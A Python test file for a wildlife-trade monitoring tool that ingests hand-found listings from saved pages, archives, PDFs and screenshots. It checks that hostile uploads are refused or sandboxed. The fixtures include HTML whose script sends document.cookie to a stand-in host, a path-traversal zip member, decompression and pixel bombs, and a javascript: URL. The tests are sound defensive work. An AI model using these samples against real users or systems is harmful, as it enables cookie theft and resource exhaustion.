"""Offers found by hand, in every form an analyst brings them (a page's address, a saved HTML, MHTML, WARC,
WACZ, PDF, a screenshot): stored as a listing with its upload as evidence, its contacts linking it to the
crawled listings of the same seller, queued, counted apart in the report, re-hashed by `evidence verify`.
Hostile files are refused with a reason and leave nothing half-stored."""
import gzip
import io
import os
import subprocess
import sys
import zipfile
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

import pytest
from PIL import Image

from helpers import seed_site_and_run, store_with_contacts
from wildwatch import config
from wildwatch.evidence import warc
from wildwatch.evidence.store import open_store
from wildwatch.hand import files, ingest
from wildwatch.report.build import build_report

PHONE_TEXT = "Vòng tay ngà voi thật, bán gấp. Liên hệ Zalo 0912 345 678"
HOSTILE = ("<html><head><title>Vòng ngà voi</title><meta property='og:title' content='Vòng tay ngà voi thật'></head>"
           f"<body><h1>Vòng tay ngà voi</h1><p>{PHONE_TEXT}</p>"
           "<script>fetch('http://203.0.113.9/steal?c='+document.cookie)</script>"
           "<img src='http://203.0.113.9/x.png' onerror=\"fetch('http://203.0.113.9/onerror')\"></body></html>")


def png(size=(320, 240), colour=(200, 40, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def mhtml(html: str = HOSTILE, url: str = "https://www.facebook.com/groups/ngavoi/posts/123") -> bytes:
    message = MIMEMultipart("related", type="text/html")
    message["From"] = "<Saved by Blink>"
    message["Snapshot-Content-Location"] = url
    page = MIMEText(html, "html", "utf-8")
    page["Content-Location"] = url
    message.attach(page)
    picture = MIMEImage(png(), "png")
    picture["Content-Location"] = "https://scontent.example/photo.png"
    message.attach(picture)
    return message.as_bytes()


def warc_of(html: str = HOSTILE, url: str = "https://www.facebook.com/groups/ngavoi/posts/124") -> bytes:
    return warc.build(warc.PageCapture(url=url, status=200, headers=[("Content-Type", "text/html; charset=utf-8")],
                                       body=html.encode()))


def wacz(html: str = HOSTILE) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("datapackage.json", '{"profile": "data-package"}')
        z.writestr("../../outside.txt", "a member that names a place outside the folder")
        z.writestr("archive/data.warc.gz", gzip.compress(warc_of(html, "https://zalo.me/g/ngavoi/125")))
    return out.getvalue()


def pdf(text: str) -> bytes:
    """A one-page PDF with `text` in Helvetica (ASCII), written by hand: no PDF library writes text."""
    content = f"BT /F1 12 Tf 40 700 Td ({text}) Tj ET".encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{i} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


@pytest.fixture
def crawled_seller(conn, tmp_path, monkeypatch):
    """A listing the crawl stored on a Vietnamese marketplace, with the seller's Zalo number."""
    monkeypatch.setenv("WILDWATCH_EVIDENCE_DIR", str(tmp_path / "evidence"))
    with conn, conn.cursor() as cur:
        site, run = seed_site_and_run(cur, "demo_vn", "VN", "vi")
    return store_with_contacts(conn, site, run, "http://127.0.0.1:1/item/vn0001", "Vòng ngà voi",
                               "Liên hệ Zalo 0912345678", "Anh Tuấn", "/seller/t1", region="VN", language="vi",
                               queue=True)


def add(conn, upload=None, **kw) -> dict:
    settings = config.load()
    find = ingest.Find(platform=kw.pop("platform", "facebook"), country=kw.pop("country", "VN"), found_by="amina",
                       upload=upload, **kw)
    with conn:
        return ingest.add(conn, find, open_store(settings.evidence_dir), settings)


def network_of(conn, listing_id):
    with conn.cursor() as cur:
        cur.execute("SELECT network_id FROM network_members WHERE listing_id = %s", (listing_id,))
        row = cur.fetchone()
        return row and row[0]


@pytest.mark.parametrize("form, data", [
    ("html", lambda: HOSTILE.encode()), ("mhtml", mhtml), ("warc", warc_of), ("wacz", wacz),
    ("pdf", lambda: pdf("Vong nga voi that. Lien he Zalo 0912 345 678")),
])
def test_each_saved_form_is_stored_with_its_evidence_contacts_network_and_queue(conn, crawled_seller, form, data):
    upload = files.read(data())
    assert upload.kind == form
    done = add(conn, upload)
    assert [c["value"] for c in done["contacts"] if c["kind"] in ("phone", "zalo")]
    assert network_of(conn, done["listing_id"]) == network_of(conn, crawled_seller) is not None
    with conn.cursor() as cur:
        cur.execute("""SELECT e.kind, e.sha256, e.media_type FROM evidence e WHERE e.listing_id = %s""",
                    (done["listing_id"],))
        (kind, sha, media), = cur.fetchall()
        cur.execute("SELECT q.reason, q.status, s.kind, s.platform FROM review_queue q JOIN listings l ON "
                    "l.id = q.listing_id JOIN sites s ON s.id = l.site_id WHERE q.id = %s", (done["queue_id"],))
        queued = cur.fetchone()
        cur.execute("SELECT found_by, source, file_sha256 FROM hand_finds WHERE listing_id = %s", (done["listing_id"],))
        found = cur.fetchone()
    assert kind == "upload" and open_store(config.load().evidence_dir).get(sha.strip()) == upload.data
    assert queued == ("hand", "pending", "hand", "Facebook") and found == ("amina", form, sha)
    # counted apart in the report of the month it was seen, and re-hashed by `evidence verify`
    month = f"{__import__('datetime').date.today():%Y-%m}"
    assert [(r["platform"], r["found_by_hand"]) for r in build_report(conn, month).tables["hand_finds"]] == \
        [("Facebook", 1)]
    from wildwatch.evidence.verify import verify

    checked = verify(conn, open_store(config.load().evidence_dir))
    assert checked.checked >= 1 and not checked.altered and not checked.missing
    if form == "mhtml":
        assert done["photos"] == 1  # the picture saved inside the page
    if form in ("mhtml", "warc", "wacz"):
        assert done["url"].startswith("https://")  # the address the file says it came from


def test_a_screenshot_with_typed_text_and_the_report_counts_finds_by_hand_apart(conn, crawled_seller, tmp_path):
    shot = add(conn, files.read(png()), text=PHONE_TEXT, title="Vòng ngà voi (nhóm kín)", platform="zalo",
               seen_on=__import__("datetime").date(2026, 11, 20))
    assert shot["photos"] == 1 and network_of(conn, shot["listing_id"]) == network_of(conn, crawled_seller)
    add(conn, files.read(HOSTILE.encode()), seen_on=__import__("datetime").date(2026, 11, 21))
    report = build_report(conn, "2026-11")
    assert {(r["platform"], r["country"], r["found_by_hand"]) for r in report.tables["hand_finds"]} == \
        {("Facebook", "VN", 1), ("Zalo", "VN", 1)}
    assert any(r["platform"] == "Zalo (by hand)" for r in report.tables["offers"])
    verify = subprocess.run([sys.executable, "-m", "wildwatch.cli", "evidence", "verify"], env=dict(os.environ),
                            capture_output=True, text=True, timeout=120)
    assert verify.returncode == 0 and "altered" not in verify.stdout.lower().replace("0 altered", ""), verify.stdout


@pytest.mark.parametrize("data, reason", [
    (b"", "empty"), (b"\x00\x01 not a page", "not a page"), (b"x" * (files.MAX_UPLOAD + 1), "over 25 MB"),
    (gzip.compress(b"WARC/1.0\r\n" + b"\x00" * (60 * 1024 * 1024)), "decompression bomb"),
    (lambda: _zip_bomb(), "decompression bomb"),
    (lambda: _pixel_bomb(), "larger than wildwatch reads|cannot be read"),
    (b"PK\x03\x04 broken zip", "cannot be read"),
    (lambda: mhtml().replace(b"text/html", b"text/plain"), "no HTML page"),
])
def test_hostile_or_broken_uploads_are_refused_with_a_reason(data, reason):
    with pytest.raises(files.UploadRefused, match=reason):
        files.read(data() if callable(data) else data)


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.warc", b"\x00" * (60 * 1024 * 1024))
    return out.getvalue()


def _pixel_bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (8000, 6000)).save(out, "PNG")
    return out.getvalue()


def test_a_refused_find_stores_nothing(conn, crawled_seller):
    with conn.cursor() as cur:
        cur.execute("SELECT count(*) FROM listings")
        before = cur.fetchone()[0]
    with pytest.raises(ingest.HandError, match="no platform"):
        add(conn, files.read(HOSTILE.encode()), platform="myspace")
    with pytest.raises(ingest.HandError, match="already stored as crawled listing"):
        add(conn, None, url="http://127.0.0.1:1/item/vn0001", text=PHONE_TEXT)
    with conn.cursor() as cur:
        cur.execute("SELECT count(*) FROM listings")
        assert cur.fetchone()[0] == before


def test_the_capture_command_takes_a_saved_file_and_a_demo_page_by_address(conn, crawled_seller, tmp_path,
                                                                          demo_sites, crawl_env):
    saved = tmp_path / "post.mhtml"
    saved.write_bytes(mhtml())
    cli = [sys.executable, "-m", "wildwatch.cli"]
    out = subprocess.run([*cli, "capture", "--platform", "facebook", "--country", "VN", "--file", str(saved),
                          "--user", "amina"], env=crawl_env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0 and "stored and queued" in out.stdout and "zalo" in out.stdout.lower(), out.stderr
    page = demo_sites["demo_tz"] + "/item/tz0001"
    out = subprocess.run([*cli, "capture", "--platform", "other", "--country", "TZ", "--url", page,
                          "--no-screenshot", "--json"], env=crawl_env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    with conn.cursor() as cur:
        cur.execute("""SELECT l.title, e.kind, q.reason, h.source FROM listings l JOIN evidence e ON e.listing_id = l.id
                       JOIN hand_finds h ON h.listing_id = l.id JOIN review_queue q ON q.listing_id = l.id
                       WHERE l.url = %s""", (page,))
        title, kind, reason, source = cur.fetchone()
    assert title and (kind, reason, source) == ("warc", "hand", "address")
    month = f"{__import__('datetime').date.today():%Y-%m}"
    assert ("Other", "TZ", 1) in {(r["platform"], r["country"], r["found_by_hand"])
                                  for r in build_report(conn, month).tables["hand_finds"]}
    refused = subprocess.run([*cli, "capture", "--platform", "other", "--country", "TZ",
                              "--url", demo_sites["demo_tz"] + "/account/settings"], env=crawl_env,
                             capture_output=True, text=True, timeout=120)
    assert refused.returncode == 1 and "robots.txt" in refused.stderr


# -- in the review app ------------------------------------------------------------------------------------
@pytest.fixture
def review(conn, database_url, crawled_seller):
    from fastapi.testclient import TestClient

    from helpers import sign_in
    from wildwatch.review import accounts
    from wildwatch.review.app import create_app
    from wildwatch.review.settings import ReviewSettings

    with conn:
        accounts.add_user(conn, "amina", "analyst", "correct horse battery")
    app = create_app(ReviewSettings(secret_key="f" * 40, database_url=database_url,
                                    evidence_dir=config.load().evidence_dir))
    client = TestClient(app)
    assert sign_in(client, "amina", "correct horse battery", follow_redirects=False).status_code == 303
    import re

    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/add").text).group(1)
    return app, client, token


def test_an_analyst_brings_a_file_corrects_the_fields_and_decides_first(review, conn, crawled_seller):
    import re

    _, client, token = review
    proposed = client.post("/add", data={"csrf_token": token, "platform": "facebook", "country": "vn",
                                         "seen": "2026-11-20"},
                           files={"file": ("post.mhtml", mhtml(), "application/octet-stream")})
    assert proposed.status_code == 200 and 'id="save"' in proposed.text
    assert "Vòng tay ngà voi thật" in proposed.text  # the page's own title, proposed
    assert "<script>fetch" not in proposed.text  # the page is shown only in the sandboxed preview
    sha = re.search(r'name="sha" value="([0-9a-f]{64})"', proposed.text).group(1)
    shown = client.get(f"/add/preview/{sha}")
    assert shown.headers["content-security-policy"].startswith("sandbox;")
    saved = client.post("/add/save", data={"csrf_token": token, "platform": "facebook", "country": "VN",
                                           "seen": "2026-11-20", "kind": "mhtml", "sha": sha,
                                           "file_name": "post.mhtml", "url": "https://www.facebook.com/groups/x/1",
                                           "title": "Vòng ngà voi (corrected)", "text": PHONE_TEXT,
                                           "decision": "confirmed", "product_group": "ivory"},
                        follow_redirects=False)
    assert saved.status_code == 303
    item = client.get(saved.headers["location"]).text
    assert "Vòng ngà voi (corrected)" in re.sub(r"<[^>]+>", "", item)  # keywords are marked inside it
    assert "You decided: <strong>confirmed</strong>" in item
    with conn.cursor() as cur:
        cur.execute("""SELECT h.found_by, d.decided_by, q.status FROM hand_finds h JOIN review_queue q
                       ON q.listing_id = h.listing_id JOIN review_decisions d ON d.queue_id = q.id""")
        assert cur.fetchone() == ("amina", "amina", "decided")


def test_a_refused_upload_says_why_and_an_address_is_fetched_politely(review, demo_sites, crawl_env):
    _, client, token = review
    bomb = client.post("/add", data={"csrf_token": token, "platform": "facebook", "country": "VN"},
                       files={"file": ("x.wacz", _zip_bomb(), "application/zip")})
    assert bomb.status_code == 400 and "decompression bomb" in bomb.text
    refused = client.post("/add", data={"csrf_token": token, "platform": "other", "country": "TZ",
                                        "url": demo_sites["demo_tz"] + "/account/x"})
    assert refused.status_code == 400 and "robots.txt" in refused.text
    fetched = client.post("/add", data={"csrf_token": token, "platform": "other", "country": "TZ",
                                        "url": demo_sites["demo_tz"] + "/item/tz0001"})
    assert fetched.status_code == 200 and 'value="address"' in fetched.text


@pytest.mark.browser
def test_a_hostile_saved_page_runs_nothing_and_fetches_nothing_in_chromium(review, conn):
    """An analyst adds a listing from a saved MHTML of a hostile page in a real Chromium: its scripts and event
    handlers never run, nothing is fetched from outside, and the proposed fields can be edited."""
    from playwright.sync_api import sync_playwright

    from helpers import browser_login, served
    from spiders.browser import CHROMIUM_ARGS, chromium_path

    app, _, _ = review
    saved = __import__("pathlib").Path(config.load().evidence_dir).parent / "hostile.mhtml"
    saved.parent.mkdir(parents=True, exist_ok=True)
    saved.write_bytes(mhtml())
    outside, blocked, dialogs = [], [], []
    with served(app) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_ARGS)
        page = browser.new_page()
        # Chromium may announce a request the page's policy then blocks: what counts is that none completes.
        page.on("requestfinished", lambda r: outside.append(r.url) if not r.url.startswith(base) else None)
        page.on("requestfailed", lambda r: blocked.append(r.failure) if not r.url.startswith(base) else None)
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        browser_login(page, base, "amina")
        page.click("text=Add a find")
        page.select_option("select[name=platform]", "facebook")
        page.fill("input[name=country]", "VN")
        page.set_input_files("input[name=file]", str(saved))
        page.click("#bring button")
        page.wait_for_selector("#save")
        frame = page.frame_locator("iframe.evidence")
        assert frame.locator("h1").inner_text() == "Vòng tay ngà voi"  # the page shows, inert
        page.fill("#title", "Vòng tay ngà voi — edited")
        page.click("#save button")
        page.wait_for_url(base + "/item/*")
        assert page.locator("h1").inner_text() == "Vòng tay ngà voi — edited"
        browser.close()
    assert outside == [] and dialogs == []
    assert all("csp" in (reason or "").lower() for reason in blocked), blocked  # refused by our policy
    with conn.cursor() as cur:
        cur.execute("SELECT title FROM listings l JOIN hand_finds h ON h.listing_id = l.id")
        assert cur.fetchone() == ("Vòng tay ngà voi — edited",)


def test_a_confirmed_find_goes_into_a_referral_with_its_upload_as_evidence(conn, crawled_seller, tmp_path):
    import datetime as dt

    from wildwatch.referrals import build, package
    from wildwatch.review import claims

    upload = files.read(mhtml())
    done = add(conn, upload, seen_on=dt.date(2026, 11, 20))
    with conn:
        assert claims.claim_item(conn, done["queue_id"], "amina")
        claims.decide(conn, done["queue_id"], "amina", "confirmed", "ivory")
        referral = build.create_or_refresh(conn, "platform", "hand_facebook_vn", "2026-11", "sam")
        path, _ = package.build_package(conn, referral, open_store(config.load().evidence_dir), tmp_path)
    names = zipfile.ZipFile(path).namelist()
    sha = __import__("hashlib").sha256(upload.data).hexdigest()
    assert f"referral-{referral}/evidence/{sha}.mhtml" in names


def test_a_screenshot_whose_only_contact_is_painted_on_it_joins_the_network(conn, crawled_seller):
    from wildwatch.demo.painted import painted

    done = add(conn, files.read(painted("zalo-post", "Zalo 0912 345 678", "band")), platform="zalo",
               text="Vòng tay ngà voi, inbox", title="Vòng tay ngà voi")
    assert ("zalo", "+84912345678") in {(c["kind"], c["value"]) for c in done["contacts"]}
    assert network_of(conn, done["listing_id"]) == network_of(conn, crawled_seller) is not None


def test_several_screenshots_of_one_post_and_a_page_by_address_saved_with_its_screenshot(review, conn, demo_sites,
                                                                                         crawl_env):
    import re

    _, client, token = review
    shots = [("1.png", png(colour=(10, 120, 30)), "image/png"), ("2.png", png(colour=(30, 30, 160)), "image/png")]
    proposed = client.post("/add", data={"csrf_token": token, "platform": "zalo", "country": "VN",
                                         "text": PHONE_TEXT}, files=[("file", s) for s in shots])
    assert proposed.status_code == 200, proposed.text[:500]
    fields = dict(re.findall(r'name="(sha|extra|kind)" value="([^"]*)"', proposed.text))
    assert fields["kind"] == "image" and re.fullmatch(r"[0-9a-f]{64}", fields["extra"])
    saved = client.post("/add/save", data={"csrf_token": token, "platform": "zalo", "country": "VN", "title": "Vòng",
                                           "text": PHONE_TEXT, **fields}, follow_redirects=False)
    assert saved.status_code == 303
    page = demo_sites["demo_tz"] + "/item/tz0001"
    proposed = client.post("/add", data={"csrf_token": token, "platform": "other", "country": "TZ", "url": page})
    fields = dict(re.findall(r'name="(sha|extra|kind|title|url)" value="([^"]*)"', proposed.text))
    saved = client.post("/add/save", data={"csrf_token": token, "platform": "other", "country": "TZ",
                                           "text": "x", **fields}, follow_redirects=False)
    assert saved.status_code == 303
    with conn.cursor() as cur:
        cur.execute("""SELECT h.source, count(DISTINCT p.id), array_agg(DISTINCT e.kind ORDER BY e.kind)
                       FROM hand_finds h LEFT JOIN listing_photos p ON p.listing_id = h.listing_id
                       LEFT JOIN evidence e ON e.listing_id = h.listing_id GROUP BY h.source ORDER BY h.source""")
        rows = cur.fetchall()
    assert rows == [("address", 0, ["screenshot", "warc"]), ("image", 2, ["upload"])]


def test_an_address_a_file_carries_is_as_hostile_as_the_file(conn, crawled_seller):
    """A saved page names its own address (an MHTML header, a WARC record): an over-long or broken one is
    refused with the reason, never a database error."""
    for url in ("https://x.example/" + "a" * 5000, "https://x.example/a b", "javascript:alert(1)"):
        with pytest.raises(ingest.HandError, match="http"):
            add(conn, files.read(mhtml(url=url)))
